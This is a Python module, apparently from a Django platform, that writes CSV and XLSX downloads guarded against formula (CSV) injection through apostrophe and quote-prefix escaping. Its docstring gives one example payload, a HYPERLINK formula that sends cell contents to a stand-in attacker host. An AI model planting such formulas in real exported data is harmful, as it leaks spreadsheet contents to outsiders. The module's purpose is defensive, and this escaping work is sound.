"""The one writer of the spreadsheets people download: CSV and XLSX, guarded against formulas.

A spreadsheet reads a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
(leading spaces aside) as a formula ("CSV injection"): a film titled
`=HYPERLINK("http://evil.example/?d="&A1,"Voir")` would become a live link that sends the
organizer's sheet away. Every CSV and XLSX file of the platform is written here, so every value a
user typed is guarded:

- in CSV, such a text gets an apostrophe in front, which spreadsheets show as text;
- in XLSX, text is always stored as a string cell (never a formula), with Excel's "quote prefix"
  so that editing the cell keeps it text.

Only text is guarded: the numbers, Decimals and dates our code puts in a row stay numbers and
dates, a negative score included.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from datetime import date, datetime, time
from decimal import Decimal

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would read the text as a formula."""
    return text.startswith(FORMULA_TRIGGERS) or text.lstrip().startswith(FORMULA_TRIGGERS)


def _is_guarded(text: str) -> bool:
    # "'=1" is what guard_text("=1") writes; "''=1" what it writes for a title typed "'=1".
    return text.startswith(GUARD) and is_formula_like(text.lstrip(GUARD))


def guard_text(text: str) -> str:
    """The text as a CSV cell shows it, never as a formula: "=1" → "'=1".

    A text that already looks guarded gets one more apostrophe, so that `unguard_text` gives
    back exactly what was written, whatever it was.
    """
    if is_formula_like(text) or _is_guarded(text):
        return GUARD + text
    return text


def unguard_text(text: str) -> str:
    """The text `guard_text` was given: for programs reading back the files we write."""
    return text[1:] if _is_guarded(text) else text


def plain_number(value: Decimal) -> str:
    """7.5, 10, 1.25: a decimal written in full, without trailing zeros nor exponent."""
    if not value.is_finite():
        return str(value)
    if value == value.to_integral_value():
        return str(value.quantize(Decimal(1)))
    return f"{value.normalize():f}"


def _naive(value: datetime) -> datetime:
    """Spreadsheets know no time zones: an aware datetime is written in local time."""
    return timezone.make_naive(value) if timezone.is_aware(value) else value


# CSV


def csv_cell(value) -> str:
    """The text of a CSV cell: numbers and dates as they are, any other value guarded."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return plain_number(value)
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, datetime):
        return _naive(value).isoformat(sep=" ", timespec="seconds")
    if isinstance(value, date | time):
        return value.isoformat()
    return guard_text(str(value))


class _Echo:
    """A file-like object whose write() hands back the line csv.writer formats."""

    def write(self, value):
        return value


def csv_lines(
    header: Iterable,
    rows: Iterable[Iterable],
    *,
    delimiter: str = ",",
    lineterminator: str = "\r\n",
    bom: bool = False,
) -> Iterator[str]:
    """The file line by line, for a streamed response; rows are read as they come.

    `bom` puts a byte order mark in front, which makes Excel read the file as UTF-8.
    """
    writer = csv.writer(_Echo(), delimiter=delimiter, lineterminator=lineterminator)
    first = writer.writerow([csv_cell(value) for value in header])
    yield "\ufeff" + first if bom else first
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_text(header: Iterable, rows: Iterable[Iterable], **options) -> str:
    """The whole file as a string; options as for `csv_lines`."""
    return "".join(csv_lines(header, rows, **options))


# XLSX


def _xlsx_value(value):
    """(value, is text) of an XLSX cell: numbers, booleans and dates keep their type."""
    if value is None or isinstance(value, int | float | Decimal | date | time):
        if isinstance(value, datetime):
            value = _naive(value)
        return value, False
    # openpyxl refuses the control characters XML cannot hold; a stray one must not break
    # the whole download.
    return ILLEGAL_CHARACTERS_RE.sub("", str(value)), True


def _append(sheet, row_number: int, values: Iterable) -> None:
    for column, raw in enumerate(values, start=1):
        value, is_text = _xlsx_value(raw)
        cell = sheet.cell(row=row_number, column=column)
        cell.value = value
        if is_text:
            # openpyxl takes a string starting with "=" for a formula: store it as text.
            cell.data_type = "s"
            if is_formula_like(value):
                cell.quotePrefix = True


def xlsx_bytes(title: str, header: Iterable, rows: Iterable[Iterable]) -> bytes:
    """A workbook of one sheet: the header row, frozen, then the rows."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = str(title)[:31]
    _append(sheet, 1, header)
    for row_number, row in enumerate(rows, start=2):
        _append(sheet, row_number, row)
    sheet.freeze_panes = "A2"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
